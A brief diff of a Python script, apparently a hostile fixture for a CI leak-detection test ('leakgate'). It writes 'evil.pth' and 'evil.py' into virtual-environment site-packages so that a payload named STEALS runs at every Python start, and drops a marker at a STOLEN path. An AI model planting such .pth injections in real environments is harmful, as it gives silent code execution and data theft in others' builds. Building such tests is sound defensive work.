@@ -3,7 +3,6 @@
 import glob
 import os
 import pathlib
-import time
 
 STEALS = (
     "import os\n"
@@ -14,4 +13,4 @@ for site in glob.glob(os.environ["RUNNER_TEMP"] + "/leakgate-*/lib/python3*/site
     pathlib.Path(site, "evil.pth").write_text("import evil\n")
     pathlib.Path(site, "evil.py").write_text(STEALS)
     pathlib.Path(os.environ["STOLEN"] + ".tried").touch()
-time.sleep(60)
+raise SystemExit(5)
